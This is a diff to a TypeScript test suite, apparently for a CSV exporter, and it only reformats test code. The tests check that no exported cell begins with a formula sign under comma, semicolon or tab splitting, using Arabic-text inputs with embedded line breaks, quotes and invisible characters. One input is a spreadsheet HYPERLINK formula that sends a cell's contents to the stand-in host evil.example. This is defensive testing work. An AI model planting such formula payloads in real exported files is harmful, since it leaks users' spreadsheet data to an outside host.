@@ -60,14 +60,25 @@ describe('a cell', () => {
 describe('no cell calculates, wherever a spreadsheet parts them', () => {
   const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
   const texts = SIGNS.flatMap((sign) => [
-    `رأيي;${sign}HYPERLINK("http://evil.example/?"&A1,"x");تمام`, `سطر\n${sign}1+1`, `سطر\r\n${sign}1+1`, `سطر\r${sign}1`, `أ\t${sign}1`, `أ;"${sign}1"`, `أ; \u200F${sign}1`,
-    `أ;;\t\n${sign}1`, `;${sign}1`, `أ\u2028${sign}1`, `أ,${sign}1`, `"${sign}1"`, `أ";${sign}1`,
+    `رأيي;${sign}HYPERLINK("http://evil.example/?"&A1,"x");تمام`,
+    `سطر\n${sign}1+1`,
+    `سطر\r\n${sign}1+1`,
+    `سطر\r${sign}1`,
+    `أ\t${sign}1`,
+    `أ;"${sign}1"`,
+    `أ; \u200F${sign}1`,
+    `أ;;\t\n${sign}1`,
+    `;${sign}1`,
+    `أ\u2028${sign}1`,
+    `أ,${sign}1`,
+    `"${sign}1"`,
+    `أ";${sign}1`,
   ]);
 
   /** As a spreadsheet takes a file apart at a sign: quotation marks count only where they begin a cell. */
   function read(file: string, separator: string): string[] {
     const cells: string[] = [];
-    for (let at = 0; at < file.length; ) {
+    for (let at = 0; at < file.length;) {
       let text = '';
       if (file[at] === '"') {
         for (at++; at < file.length; at++) {
@@ -79,7 +90,8 @@ describe('no cell calculates, wherever a spreadsheet parts them', () => {
           }
         }
       }
-      while (at < file.length && file[at] !== separator && !/[\r\n\v\f\u0085\u2028\u2029]/.test(file[at]!)) text += file[at++];
+      while (at < file.length && file[at] !== separator && !/[\r\n\v\f\u0085\u2028\u2029]/.test(file[at]!))
+        text += file[at++];
       cells.push(text);
       at++;
     }
@@ -88,7 +100,13 @@ describe('no cell calculates, wherever a spreadsheet parts them', () => {
 
   it.each([',', ';', '\t'])('at %j', (separator) => {
     for (const text of texts) {
-      const calculating = read(toCsv([['اسم', text, 'آخر'], [text, 1]]), separator).filter((each) => /^[\s\p{Cf}]*[=+\-@＝＋－＠]/u.test(each));
+      const calculating = read(
+        toCsv([
+          ['اسم', text, 'آخر'],
+          [text, 1],
+        ]),
+        separator,
+      ).filter((each) => /^[\s\p{Cf}]*[=+\-@＝＋－＠]/u.test(each));
       expect({ text, calculating }).toEqual({ text, calculating: [] });
     }
   });
